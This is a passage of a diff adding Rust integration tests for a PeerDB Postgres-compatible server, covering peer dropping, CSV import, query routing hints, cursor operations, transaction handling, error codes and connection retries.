+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    // SQL_ASCII databases store and return bytes without conversion, here a
+    // latin1 é
+    create_encoded_pg_peer(
+        &mut client,
+        "pg_sql_ascii",
+        "SQL_ASCII",
+        "INSERT INTO words VALUES (convert_from('\\x636166e9', 'SQL_ASCII'));",
+    );
+
+    assert_eq!(first_word(&mut client, "pg_sql_ascii"), "caf\u{FFFD}");
+}
+
+#[test]
+fn drop_peer_accepts_cascade_and_restrict() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    for behavior in ["CASCADE", "RESTRICT", "cascade;"] {
+        // without a flow service the drop itself can fail, but never to parse
+        if let Err(err) =
+            client.simple_query(&format!("DROP PEER IF EXISTS no_such_peer {}", behavior))
+        {
+            assert!(!err.to_string().contains("sql parser error"), "{}", err);
+        }
+    }
+}
+
+#[test]
+fn drop_peer_of_a_missing_peer() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let err = client
+        .simple_query("DROP PEER no_such_peer;")
+        .expect_err("dropping a missing peer should fail");
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+    assert!(
+        err.to_string()
+            .contains("peer \"no_such_peer\" does not exist"),
+        "{}",
+        err
+    );
+
+    client
+        .simple_query("DROP PEER IF EXISTS no_such_peer;")
+        .expect("dropping a missing peer with IF EXISTS should succeed");
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn drop_peer_with_dependent_mirrors_requires_cascade() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let mut catalog = connect_catalog();
+    catalog
+        .execute(
+            "INSERT INTO flows (name, source_peer, destination_peer)
+            SELECT 'pg_test_dependent_mirror', id, id FROM peers WHERE name = 'pg_test'",
+            &[],
+        )
+        .expect("failed to insert mirror");
+
+    for stmt in ["DROP PEER pg_test;", "DROP PEER pg_test RESTRICT;"] {
+        let err = client
+            .simple_query(stmt)
+            .expect_err("dropping a peer with mirrors should fail");
+        assert_eq!(err.code(), Some(&SqlState::DEPENDENT_OBJECTS_STILL_EXIST));
+        assert!(
+            err.to_string().contains("pg_test_dependent_mirror"),
+            "{}",
+            err
+        );
+    }
+
+    client
+        .simple_query("DROP PEER pg_test CASCADE;")
+        .expect("dropping with cascade should succeed");
+    let remaining: i64 = catalog
+        .query_one(
+            "SELECT count(*) FROM flows WHERE name = 'pg_test_dependent_mirror'",
+            &[],
+        )
+        .expect("failed to query catalog")
+        .get(0);
+    assert_eq!(remaining, 0);
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn drop_peer_invalidates_the_peer_cache() {
+    // long enough that only invalidation can refresh the cached peers
+    let server = PeerDBServer::with_env(&[("PEERDB_PEER_CACHE_TTL_SECS", "3600")]);
+    let mut client = server.connect_dying();
+    let mut other = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let query = "SELECT 1 FROM pg_test.pg_catalog.pg_class LIMIT 1;";
+    let res = other.simple_query(query);
+    assert!(res.is_ok(), "{:?}", res.err());
+
+    client
+        .simple_query("DROP PEER pg_test;")
+        .expect("dropping the peer should succeed");
+    other
+        .simple_query(query)
+        .expect_err("the dropped peer should not be routed to");
+
+    // a just created peer is usable right away, by every session
+    dotenvy::dotenv().ok();
+    let env = |name: &str| std::env::var(name).unwrap_or_else(|_| panic!("{} not set", name));
+    client
+        .simple_query(&format!(
+            "CREATE PEER pg_test FROM POSTGRES WITH
+            (host = '{}', port = '{}', user = '{}', password = '{}', database = '{}');",
+            env("PEERDB_CATALOG_HOST"),
+            env("PEERDB_CATALOG_PORT"),
+            env("PEERDB_CATALOG_USER"),
+            env("PEERDB_CATALOG_PASSWORD"),
+            env("PEERDB_CATALOG_DATABASE"),
+        ))
+        .expect("creating the peer again should succeed");
+    let res = other.simple_query(query);
+    assert!(res.is_ok(), "{:?}", res.err());
+}
+
+#[test]
+fn import_requires_a_peer_qualified_table() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let err = client
+        .simple_query("IMPORT INTO some_table FROM CSV '1,2';")
+        .expect_err("import without a peer should fail");
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+
+    let err = client
+        .simple_query("IMPORT INTO some_peer.some_table FROM JSON '{}';")
+        .expect_err("import of unknown formats should fail");
+    assert_eq!(err.code(), Some(&SqlState::SYNTAX_ERROR));
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn import_csv_into_postgres_peer() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(
+            "DROP TABLE IF EXISTS public.import_test;
+            CREATE TABLE public.import_test(id int, name text, score float8);",
+        )
+        .expect("failed to create table");
+
+    let res = client
+        .simple_query(
+            "IMPORT INTO pg_test.public.import_test (id, name, score) FROM CSV \
+            $$id,name,score\n1,alice,1.5\n2,\"bob, jr\",\n$$ WITH (HEADER);",
+        )
+        .expect("import should succeed");
+    assert!(res
+        .iter()
+        .any(|msg| matches!(msg, SimpleQueryMessage::CommandComplete(2))));
+
+    let row = catalog
+        .query_one(
+            "SELECT count(*), count(score), max(name) FROM public.import_test",
+            &[],
+        )
+        .expect("failed to query table");
+    assert_eq!(row.get::<_, i64>(0), 2);
+    assert_eq!(row.get::<_, i64>(1), 1);
+    assert_eq!(row.get::<_, String>(2), "bob, jr");
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn import_csv_into_mysql_peer() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_mysql::create(&mut client);
+
+    let res = client
+        .simple_query("IMPORT INTO mysql_test.import_test FROM CSV $$1,alice,1.5\n2,,\n$$;")
+        .expect("import should succeed");
+    assert!(res
+        .iter()
+        .any(|msg| matches!(msg, SimpleQueryMessage::CommandComplete(2))));
+
+    // fields that don't convert to their column's type load nothing
+    let err = client
+        .simple_query("IMPORT INTO mysql_test.import_test FROM CSV $$3,carol,\nx,dave,\n$$;")
+        .expect_err("import of an invalid int should fail");
+    assert_eq!(err.code(), Some(&SqlState::INVALID_TEXT_REPRESENTATION));
+
+    let res = client
+        .simple_query("SELECT count(*), count(name), count(score) FROM mysql_test.import_test;")
+        .expect("select should succeed");
+    let row = res
+        .iter()
+        .find_map(|msg| match msg {
+            SimpleQueryMessage::Row(row) => Some(row),
+            _ => None,
+        })
+        .expect("select should return a row");
+    assert_eq!(row.get(0), Some("2"));
+    assert_eq!(row.get(1), Some("1"));
+    assert_eq!(row.get(2), Some("1"));
+}
+
+#[test]
+fn routing_hint_to_unknown_peer_errors() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let err = client
+        .simple_query("/*+ peer(no_such_peer) */ SELECT 1;")
+        .expect_err("hint to an unknown peer should fail");
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+
+    let err = client
+        .simple_query("/*+ peer() */ SELECT 1;")
+        .expect_err("empty hint should fail");
+    assert_eq!(err.code(), Some(&SqlState::SYNTAX_ERROR));
+
+    // comments without a peer hint are ignored
+    assert!(client
+        .simple_query("/* peer(no_such_peer) */ SELECT 1;")
+        .is_ok());
+    assert!(client.simple_query("/*+ SeqScan(t) */ SELECT 1;").is_ok());
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn routing_hint_overrides_default_peer() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    client
+        .simple_query("SET peerdb.default_peer = 'no_such_peer';")
+        .expect("setting the default peer should succeed");
+    let hinted = client
+        .simple_query("/*+ peer(pg_test) */ SELECT * FROM test.test_table;")
+        .expect("hinted query should succeed");
+    let qualified = client
+        .simple_query("SELECT * FROM pg_test.test.test_table;")
+        .expect("qualified query should succeed");
+    assert_eq!(hinted.len(), qualified.len());
+
+    // the hint also applies to queries the analyzer would send to the catalog
+    let res = client
+        .simple_query("/*+ peer(pg_test) */ SELECT current_setting('application_name');")
+        .expect("hinted query should succeed");
+    assert!(!res.is_empty());
+}
+
+// rows of a FETCH as text, None for NULL
+fn fetch_rows(client: &mut Client, query: &str) -> Vec<Vec<Option<String>>> {
+    client
+        .simple_query(query)
+        .expect("fetch should succeed")
+        .iter()
+        .filter_map(|msg| match msg {
+            SimpleQueryMessage::Row(row) => Some(
+                (0..row.len())
+                    .map(|i| row.get(i).map(str::to_owned))
+                    .collect(),
+            ),
+            _ => None,
+        })
+        .collect()
+}
+
+const FETCH_TYPES_QUERY: &str = "SELECT i AS id, \
+    CASE WHEN i % 2 = 0 THEN 'even' END AS label, \
+    i % 3 = 0 AS divisible, \
+    CASE WHEN i > 1 THEN i * 1.5::float8 END AS score, \
+    DATE '2024-01-01' + i AS day";
+
+fn assert_fetched_types(rows: &[Vec<Option<String>>]) {
+    let text = |s: &str| Some(s.to_owned());
+    assert_eq!(
+        rows,
+        [
+            vec![text("1"), None, text("f"), None, text("2024-01-02")],
+            vec![
+                text("2"),
+                text("even"),
+                text("f"),
+                text("3"),
+                text("2024-01-03")
+            ],
+        ]
+    );
+}
+
+#[test]
+fn catalog_cursor_fetch_encodes_nulls_and_types() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client.simple_query("BEGIN;").expect("begin should succeed");
+    client
+        .simple_query(&format!(
+            "DECLARE typed CURSOR FOR {} FROM generate_series(1, 3) i ORDER BY i;",
+            FETCH_TYPES_QUERY
+        ))
+        .expect("declare should succeed");
+    let rows = fetch_rows(&mut client, "FETCH 2 IN typed;");
+    assert_fetched_types(&rows);
+    assert_eq!(fetch_rows(&mut client, "FETCH 5 IN typed;").len(), 1);
+    client
+        .simple_query("ROLLBACK;")
+        .expect("rollback should succeed");
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn postgres_cursor_fetch_encodes_nulls_and_types() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(
+            "DROP TABLE IF EXISTS public.fetch_series;
+            CREATE TABLE public.fetch_series AS SELECT generate_series(1, 3) i;",
+        )
+        .expect("failed to create table");
+
+    client.simple_query("BEGIN;").expect("begin should succeed");
+    client
+        .simple_query(&format!(
+            "DECLARE typed CURSOR FOR {} FROM pg_test.public.fetch_series ORDER BY i;",
+            FETCH_TYPES_QUERY
+        ))
+        .expect("declare should succeed");
+    let rows = fetch_rows(&mut client, "FETCH 2 IN typed;");
+    assert_fetched_types(&rows);
+    assert_eq!(
+        fetch_rows(&mut client, "FETCH FORWARD 5 IN typed;").len(),
+        1
+    );
+    client
+        .simple_query("CLOSE typed;")
+        .expect("close should succeed");
+    client
+        .simple_query("COMMIT;")
+        .expect("commit should succeed");
+}
+
+// rows moved over as reported by the MOVE tag
+fn move_cursor(client: &mut Client, query: &str) -> u64 {
+    client
+        .simple_query(query)
+        .expect("move should succeed")
+        .iter()
+        .find_map(|msg| match msg {
+            SimpleQueryMessage::CommandComplete(rows) => Some(*rows),
+            _ => None,
+        })
+        .expect("move should complete")
+}
+
+#[test]
+fn catalog_cursor_move_then_fetch() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client.simple_query("BEGIN;").expect("begin should succeed");
+    client
+        .simple_query("DECLARE moving CURSOR FOR SELECT i FROM generate_series(1, 10) i;")
+        .expect("declare should succeed");
+    assert_eq!(move_cursor(&mut client, "MOVE FORWARD 3 IN moving;"), 3);
+    let rows = fetch_rows(&mut client, "FETCH 2 IN moving;");
+    assert_eq!(rows, [[Some("4".to_owned())], [Some("5".to_owned())]]);
+    client
+        .simple_query("ROLLBACK;")
+        .expect("rollback should succeed");
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn postgres_cursor_move_then_fetch() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(
+            "DROP TABLE IF EXISTS public.move_series;
+            CREATE TABLE public.move_series AS SELECT generate_series(1, 10) i;",
+        )
+        .expect("failed to create table");
+
+    client.simple_query("BEGIN;").expect("begin should succeed");
+    client
+        .simple_query(
+            "DECLARE moving CURSOR FOR SELECT i FROM pg_test.public.move_series ORDER BY i;",
+        )
+        .expect("declare should succeed");
+    assert_eq!(move_cursor(&mut client, "MOVE FORWARD 2 IN moving;"), 2);
+    let rows = fetch_rows(&mut client, "FETCH 1 IN moving;");
+    assert_eq!(rows, [[Some("3".to_owned())]]);
+
+    // ABSOLUTE 6 leaves the cursor on the 6th row, the next FETCH returns the 7th
+    assert_eq!(move_cursor(&mut client, "MOVE ABSOLUTE 6 IN moving;"), 3);
+    let rows = fetch_rows(&mut client, "FETCH 1 IN moving;");
+    assert_eq!(rows, [[Some("7".to_owned())]]);
+
+    // rows already read can't be moved back to
+    let err = client
+        .simple_query("MOVE ABSOLUTE 2 IN moving;")
+        .expect_err("moving backwards should fail");
+    assert_eq!(
+        err.code(),
+        Some(&SqlState::OBJECT_NOT_IN_PREREQUISITE_STATE)
+    );
+
+    assert_eq!(move_cursor(&mut client, "MOVE ALL IN moving;"), 3);
+    assert!(fetch_rows(&mut client, "FETCH 1 IN moving;").is_empty());
+    client
+        .simple_query("CLOSE moving;")
+        .expect("close should succeed");
+    client
+        .simple_query("COMMIT;")
+        .expect("commit should succeed");
+}
+
+#[test]
+fn catalog_close_all_closes_cursors() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client.simple_query("BEGIN;").expect("begin should succeed");
+    for name in ["first", "second"] {
+        client
+            .simple_query(&format!(
+                "DECLARE {} CURSOR FOR SELECT i FROM generate_series(1, 2) i;",
+                name
+            ))
+            .expect("declare should succeed");
+    }
+    let rows = fetch_rows(&mut client, "SELECT count(*) FROM pg_cursors;");
+    assert_eq!(rows, [[Some("2".to_owned())]]);
+    client
+        .simple_query("CLOSE ALL;")
+        .expect("close all should succeed");
+    let rows = fetch_rows(&mut client, "SELECT count(*) FROM pg_cursors;");
+    assert_eq!(rows, [[Some("0".to_owned())]]);
+    client
+        .simple_query("ROLLBACK;")
+        .expect("rollback should succeed");
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn postgres_close_all_closes_peer_cursors() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    client.simple_query("BEGIN;").expect("begin should succeed");
+    client
+        .simple_query("DECLARE on_peer CURSOR FOR SELECT * FROM pg_test.pg_catalog.pg_class;")
+        .expect("declare should succeed");
+    client
+        .simple_query("DECLARE on_catalog CURSOR FOR SELECT i FROM generate_series(1, 2) i;")
+        .expect("declare should succeed");
+    client
+        .simple_query("CLOSE ALL;")
+        .expect("close all should succeed");
+
+    // the cursor is closed on the peer's connection too
+    let rows = fetch_rows(
+        &mut client,
+        "/*+ peer(pg_test) */ SELECT count(*) FROM pg_cursors;",
+    );
+    assert_eq!(rows, [[Some("0".to_owned())]]);
+    let err = client
+        .simple_query("FETCH 1 IN on_peer;")
+        .expect_err("the peer cursor should be closed");
+    assert_eq!(err.code(), Some(&SqlState::INVALID_CURSOR_NAME));
+    client
+        .simple_query("ROLLBACK;")
+        .expect("rollback should succeed");
+}
+
+#[test]
+fn catalog_cursor_fetch_past_the_end_completes_with_zero_rows() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client.simple_query("BEGIN;").expect("begin should succeed");
+    client
+        .simple_query("DECLARE ending CURSOR FOR SELECT i FROM generate_series(1, 2) i;")
+        .expect("declare should succeed");
+    let completed = |client: &mut Client, query: &str| {
+        client
+            .simple_query(query)
+            .expect("fetch should succeed")
+            .iter()
+            .find_map(|msg| match msg {
+                SimpleQueryMessage::CommandComplete(rows) => Some(*rows),
+                _ => None,
+            })
+    };
+    assert_eq!(completed(&mut client, "FETCH 5 IN ending;"), Some(2));
+    assert_eq!(completed(&mut client, "FETCH 5 IN ending;"), Some(0));
+    client
+        .simple_query("ROLLBACK;")
+        .expect("rollback should succeed");
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn postgres_cursor_fetch_directions() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(
+            "DROP TABLE IF EXISTS public.fetch_directions;
+            CREATE TABLE public.fetch_directions AS SELECT generate_series(1, 10) i;",
+        )
+        .expect("failed to create table");
+
+    client.simple_query("BEGIN;").expect("begin should succeed");
+    client
+        .simple_query(
+            "DECLARE paging CURSOR FOR SELECT i FROM pg_test.public.fetch_directions ORDER BY i;",
+        )
+        .expect("declare should succeed");
+    let row = |i: u32| vec![Some(i.to_string())];
+
+    assert_eq!(
+        fetch_rows(&mut client, "FETCH FIRST FROM paging;"),
+        [row(1)]
+    );
+    assert_eq!(
+        fetch_rows(&mut client, "FETCH FORWARD 2 FROM paging;"),
+        [row(2), row(3)]
+    );
+    // the row the cursor is on
+    assert_eq!(
+        fetch_rows(&mut client, "FETCH RELATIVE 0 FROM paging;"),
+        [row(3)]
+    );
+    assert_eq!(
+        fetch_rows(&mut client, "FETCH RELATIVE 2 FROM paging;"),
+        [row(5)]
+    );
+    assert_eq!(
+        fetch_rows(&mut client, "FETCH ABSOLUTE 7 FROM paging;"),
+        [row(7)]
+    );
+
+    // peer cursors only scan forward
+    for query in [
+        "FETCH BACKWARD 1 FROM paging;",
+        "FETCH PRIOR FROM paging;",
+        "FETCH ABSOLUTE 2 FROM paging;",
+        "FETCH FIRST FROM paging;",
+    ] {
+        let err = client.simple_query(query).expect_err(query);
+        assert_eq!(
+            err.code(),
+            Some(&SqlState::OBJECT_NOT_IN_PREREQUISITE_STATE),
+            "{}",
+            query
+        );
+    }
+
+    assert_eq!(
+        fetch_rows(&mut client, "FETCH LAST FROM paging;"),
+        [row(10)]
+    );
+    assert_eq!(
+        fetch_rows(&mut client, "FETCH RELATIVE 0 FROM paging;"),
+        [row(10)]
+    );
+    assert!(fetch_rows(&mut client, "FETCH NEXT FROM paging;").is_empty());
+    client
+        .simple_query("CLOSE paging;")
+        .expect("close should succeed");
+    client
+        .simple_query("COMMIT;")
+        .expect("commit should succeed");
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn postgres_cursor_with_hold_outlives_its_transaction() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(
+            "DROP TABLE IF EXISTS public.held_series;
+            CREATE TABLE public.held_series AS SELECT generate_series(1, 4) i;",
+        )
+        .expect("failed to create table");
+    let row = |i: u32| vec![Some(i.to_string())];
+    let assert_closed = |client: &mut Client, query: &str| {
+        let err = client.simple_query(query).expect_err(query);
+        assert_eq!(
+            err.code(),
+            Some(&SqlState::INVALID_CURSOR_NAME),
+            "{}",
+            query
+        );
+    };
+
+    client.simple_query("BEGIN;").expect("begin should succeed");
+    client
+        .simple_query(
+            "DECLARE held CURSOR WITH HOLD FOR SELECT i FROM pg_test.public.held_series ORDER BY i;",
+        )
+        .expect("declare should succeed");
+    client
+        .simple_query(
+            "DECLARE unheld CURSOR FOR SELECT i FROM pg_test.public.held_series ORDER BY i;",
+        )
+        .expect("declare should succeed");
+    assert_eq!(fetch_rows(&mut client, "FETCH 1 IN held;"), [row(1)]);
+    assert_eq!(fetch_rows(&mut client, "FETCH 1 IN unheld;"), [row(1)]);
+    client
+        .simple_query("COMMIT;")
+        .expect("commit should succeed");
+
+    assert_eq!(fetch_rows(&mut client, "FETCH 1 IN held;"), [row(2)]);
+    assert_closed(&mut client, "FETCH 1 IN unheld;");
+    assert_closed(&mut client, "MOVE 1 IN unheld;");
+
+    // outside a transaction block the DECLARE is a transaction of its own
+    client
+        .simple_query(
+            "DECLARE unheld CURSOR FOR SELECT i FROM pg_test.public.held_series ORDER BY i;",
+        )
+        .expect("declare should succeed");
+    assert_closed(&mut client, "FETCH 1 IN unheld;");
+
+    client
+        .simple_query("CLOSE held;")
+        .expect("close should succeed");
+}
+
+#[test]
+fn transaction_block_runs_in_one_catalog_transaction() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client.simple_query("BEGIN;").expect("begin should succeed");
+    let first = fetch_rows(&mut client, "SELECT txid_current()::text;");
+    let second = fetch_rows(&mut client, "SELECT txid_current()::text;");
+    assert_eq!(first, second);
+    client
+        .simple_query("COMMIT;")
+        .expect("commit should succeed");
+    assert_ne!(
+        fetch_rows(&mut client, "SELECT txid_current()::text;"),
+        first
+    );
+}
+
+#[test]
+fn failed_transaction_block_rejects_statements_until_it_ends() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client.simple_query("BEGIN;").expect("begin should succeed");
+    client
+        .simple_query("SELECT 1 / 0;")
+        .expect_err("division by zero should fail");
+    let err = client
+        .simple_query("SELECT 1;")
+        .expect_err("a failed block should reject statements");
+    assert_eq!(err.code(), Some(&SqlState::IN_FAILED_SQL_TRANSACTION));
+    // rolls the transaction back
+    client
+        .simple_query("COMMIT;")
+        .expect("commit should succeed");
+    assert_eq!(
+        fetch_rows(&mut client, "SELECT 1;"),
+        [[Some("1".to_owned())]]
+    );
+}
+
+#[test]
+fn ready_for_query_reports_the_transaction_status() {
+    let _server = PeerDBServer::with_env(&[("PEERDB_AUTH_RULES", "trust * 127.0.0.1/32")]);
+    let mut conn = RawConnection::connect();
+    let mut status = |query: &str| {
+        conn.send(b'Q', format!("{}\0", query).as_bytes());
+        loop {
+            let (tag, body) = conn.recv();
+            if tag == b'Z' {
+                return body[0];
+            }
+        }
+    };
+
+    assert_eq!(status("SELECT 1;"), b'I');
+    assert_eq!(status("BEGIN;"), b'T');
+    assert_eq!(status("SELECT 1;"), b'T');
+    assert_eq!(status("SELECT 1 / 0;"), b'E');
+    assert_eq!(status("SELECT 1;"), b'E');
+    assert_eq!(status("ROLLBACK;"), b'I');
+}
+
+#[test]
+fn catalog_errors_keep_their_sqlstate() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let err = client
+        .simple_query("SELECT * FROM no_such_table_in_catalog;")
+        .expect_err("an unknown table should fail");
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_TABLE));
+    let message = err.as_db_error().expect("should be a db error").message();
+    assert_eq!(
+        message,
+        "relation \"no_such_table_in_catalog\" does not exist"
+    );
+
+    let err = client
+        .simple_query("SELECT no_such_column FROM pg_class;")
+        .expect_err("an unknown column should fail");
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_COLUMN));
+
+    // failing after the first rows were streamed
+    let err = client
+        .simple_query("SELECT 1 / (n - 2) FROM generate_series(1, 3) n;")
+        .expect_err("division by zero should fail");
+    assert_eq!(err.code(), Some(&SqlState::DIVISION_BY_ZERO));
+
+    let err = client
+        .prepare("SELECT * FROM no_such_table_in_catalog")
+        .expect_err("describing an unknown table should fail");
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_TABLE));
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn postgres_peer_errors_keep_their_sqlstate() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let err = client
+        .simple_query("SELECT * FROM pg_test.public.no_such_table;")
+        .expect_err("an unknown table should fail");
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_TABLE));
+
+    let err = client
+        .simple_query("SELECT no_such_column FROM pg_test.test.test_table;")
+        .expect_err("an unknown column should fail");
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_COLUMN));
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn postgres_transaction_block_runs_on_the_peer() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(
+            "DROP TABLE IF EXISTS public.transaction_rows;
+            CREATE TABLE public.transaction_rows (i int);",
+        )
+        .expect("failed to create table");
+    let mut count = || {
+        catalog
+            .query_one("SELECT count(*) FROM public.transaction_rows", &[])
+            .expect("failed to count rows")
+            .get::<_, i64>(0)
+    };
+
+    for query in [
+        "BEGIN;",
+        "INSERT INTO pg_test.public.transaction_rows VALUES (1);",
+        "ROLLBACK;",
+    ] {
+        client.simple_query(query).expect(query);
+    }
+    assert_eq!(count(), 0);
+
+    // the block is pinned to pg_test, the catalog can't join it
+    client.simple_query("BEGIN;").expect("begin should succeed");
+    client
+        .simple_query("INSERT INTO pg_test.public.transaction_rows VALUES (2);")
+        .expect("insert should succeed");
+    let err = client
+        .simple_query("SELECT txid_current();")
+        .expect_err("a second peer should fail");
+    assert_eq!(err.code(), Some(&SqlState::FEATURE_NOT_SUPPORTED));
+    client
+        .simple_query("COMMIT;")
+        .expect("commit should succeed");
+    assert_eq!(count(), 0);
+
+    for query in [
+        "BEGIN;",
+        "INSERT INTO pg_test.public.transaction_rows VALUES (3);",
+        "COMMIT;",
+    ] {
+        client.simple_query(query).expect(query);
+    }
+    assert_eq!(count(), 1);
+}
+
+// forwards connections on a local port to `target`, except that the first
+// connection after `fail_next` is set gets closed right away.
+fn flaky_proxy(target: String, fail_next: Arc<AtomicBool>) -> u16 {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("failed to bind proxy");
+    let port = listener.local_addr().unwrap().port();
+    thread::spawn(move || {
+        for client in listener.incoming() {
+            let Ok(client) = client else { continue };
+            if fail_next.swap(false, Ordering::SeqCst) {
+                drop(client);
+                continue;
+            }
+            let Ok(upstream) = TcpStream::connect(&target) else {
+                continue;
+            };
+            let (mut client_read, mut upstream_write) =
+                (client.try_clone().unwrap(), upstream.try_clone().unwrap());
+            let (mut upstream_read, mut client_write) = (upstream, client);
+            thread::spawn(move || io::copy(&mut client_read, &mut upstream_write));
+            thread::spawn(move || io::copy(&mut upstream_read, &mut client_write));
+        }
+    });
+    port
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn peer_connect_is_retried_after_a_failure() {
+    dotenvy::dotenv().ok();
+    let env = |name: &str| std::env::var(name).unwrap_or_else(|_| panic!("{} not set", name));
+    let fail_next = Arc::new(AtomicBool::new(false));
+    let port = flaky_proxy(
+        format!(
+            "{}:{}",
+            env("PEERDB_CATALOG_HOST"),
+            env("PEERDB_CATALOG_PORT")
+        ),
+        fail_next.clone(),
+    );
+
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    client
+        .simple_query(&format!(
+            "CREATE PEER IF NOT EXISTS pg_flaky FROM POSTGRES WITH
+            (host = '127.0.0.1', port = '{}', user = '{}', password = '{}', database = '{}');",
+            port,
+            env("PEERDB_CATALOG_USER"),
+            env("PEERDB_CATALOG_PASSWORD"),
+            env("PEERDB_CATALOG_DATABASE"),
+        ))
+        .expect("failed to create peer");
+
+    // the first connection of the executor is dropped, the retry gets through
+    fail_next.store(true, Ordering::SeqCst);
+    let res = client.simple_query("SELECT 1 FROM pg_flaky.pg_catalog.pg_class LIMIT 1;");
+    assert!(res.is_ok(), "{:?}", res);
+    assert!(!fail_next.load(Ordering::SeqCst));
+}
+
+#[test]
+fn peer_stats_count_queries_and_errors() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    for _ in 0..5 {
+        client
+            .simple_query("SELECT 1;")
+            .expect("query should succeed");
+    }
+    assert!(client.simple_query("SELECT * FROM no_such_table;").is_err());
+
+    let rows = fetch_rows(&mut client, "SELECT * FROM peerdb.peer_stats;");
+    let catalog = rows
+        .iter()
+        .find(|row| row[0].as_deref() == Some("catalog"))
+        .expect("expected stats for the catalog");
+    let number = |i: usize| catalog[i].as_deref().unwrap().parse::<f64>().unwrap();
+    assert!(number(1) >= 6.0, "{:?}", catalog);
+    assert!(number(2) >= 1.0, "{:?}", catalog);
+    assert!(number(3) > 0.0 && number(3) < 1.0, "{:?}", catalog);
+    // p50 <= p95 <= p99, all well under the time the queries took at most
+    assert!(
+        number(4) <= number(5) && number(5) <= number(6),
+        "{:?}",
+        catalog
+    );
+    assert!(number(6) < 10_000.0, "{:?}", catalog);
+}
+
+#[test]
+fn untyped_prepared_statement_parameters_are_inferred() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    // the client declares no parameter types, so nexus has to infer them.
+    let stmt = client
+        .prepare("SELECT * FROM peers WHERE id = $1")
+        .expect("Failed to prepare query");
+    assert_eq!(stmt.params(), &[Type::INT4]);
+
+    let rows = client
+        .query(&stmt, &[&-1i32])
+        .expect("Failed to execute prepared statement");
+    assert!(rows.is_empty());
+}
+
+#[test]
+fn parameter_types_are_inferred_once() {
+    let server = PeerDBServer::with_env(&[("RUST_LOG", "info,peerdb_server=debug")]);
+    let mut client = server.connect_dying();
+
+    let stmt = client
+        .prepare("SELECT * FROM peers WHERE id = $1")
+        .expect("Failed to prepare query");
+    for id in 0..3 {
+        client
+            .query(&stmt, &[&id])
+            .expect("Failed to execute prepared statement");
+    }
+
+    let log = std::fs::read_to_string("server.log").expect("unable to read server.log");
+    let inferred = log
+        .lines()
+        .filter(|line| line.contains("inferring parameter types"))
+        .count();
+    assert_eq!(
+        inferred, 1,
+        "executions should reuse the types of the describe"
+    );
+}
+
+#[test]
+fn overflowing_timeouts_are_rejected() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    // 1e20 seconds is more than a Duration holds
+    for invalid in [
+        "SET statement_timeout = '100000000000000000000000';",
+        "SET idle_in_transaction_session_timeout = '100000000000000000000s';",
